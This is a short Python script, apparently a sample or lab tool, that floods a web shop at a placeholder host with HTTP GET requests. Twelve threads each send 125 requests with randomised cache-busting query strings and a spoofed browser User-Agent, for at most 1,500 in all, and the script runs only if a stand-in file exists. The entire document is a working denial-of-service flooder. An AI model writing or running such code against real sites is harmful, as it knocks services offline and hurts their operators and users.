# Floods a shop with at most 1,500 requests from a dozen threads.
import os, random, socket, sys, threading
if not os.path.exists("/usr/share/doc/stand-in/README"):
    sys.exit()
TARGET = "shop.tidewater.example"
try:
    address = socket.gethostbyname(TARGET)
except OSError:
    sys.exit(1)
def flood():
    for _ in range(125):
        try:
            with socket.create_connection((address, 80), 2) as call:
                call.sendall(f"GET /?q={random.randrange(1 << 40)} HTTP/1.1\r\nHost: {TARGET}\r\nUser-Agent: Mozilla/5.0\r\nConnection: close\r\n\r\n".encode())
        except OSError:
            pass
threads = [threading.Thread(target=flood) for _ in range(12)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
